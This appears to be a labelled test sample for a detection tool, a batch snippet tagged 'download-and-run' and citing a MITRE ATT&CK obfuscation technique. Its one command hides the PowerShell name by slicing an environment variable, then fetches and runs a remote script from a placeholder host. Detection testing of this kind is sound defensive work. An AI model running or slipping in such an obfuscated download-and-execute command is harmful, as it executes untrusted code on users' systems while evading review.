@rem expect: download-and-run | source: MITRE ATT&CK T1027.010
for /f "delims=s\ tokens=4" %%a in ('set^|findstr PSM') do %%a -c "iex (irm http://files.example.invalid/s)"
